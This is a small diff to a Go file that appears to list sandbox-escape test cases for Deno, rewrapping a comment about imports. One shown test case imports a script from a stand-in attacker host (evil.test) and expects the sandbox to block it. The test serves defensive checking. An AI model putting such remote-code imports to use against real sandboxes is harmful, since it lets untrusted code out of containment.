@@ -8,8 +8,8 @@ import (
 )
 
 // imports are attempts to read files by what is no reading: Deno asks for no permission where a module is named in the
-// code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check refuses it
-// too, so these are no files.
+// code itself. Each is a program of its own, as one that is refused keeps the program from starting; deno check refuses
+// it too, so these are no files.
 func imports() []Attack {
 	all := []Attack{Attack{
 		Section: "C", Name: "a static import from afar", Expected: "no way out", Judge: unasked, Code: `import "https://evil.test/static-TRIAL.js"; out({ status: 200 });`,
